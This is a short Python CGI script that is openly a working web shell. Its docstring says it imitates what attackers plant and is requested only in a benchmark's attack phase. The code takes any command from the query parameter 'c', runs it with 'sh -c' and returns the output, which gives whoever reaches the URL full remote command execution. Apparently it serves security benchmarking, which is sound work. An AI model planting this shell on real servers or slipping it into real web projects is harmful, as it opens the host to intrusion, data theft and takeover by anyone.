#!/usr/bin/python3
"""A web shell as attackers plant them (an innocent name, a command in the
query string run by sh). Only the benchmark's attack phase requests it."""
import os
import subprocess
import urllib.parse

q = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))
print("Content-Type: text/plain\n", flush=True)
if "c" in q:
    r = subprocess.run(["sh", "-c", q["c"][0]], capture_output=True, timeout=5)
    print(r.stdout.decode(errors="replace")[:65536])
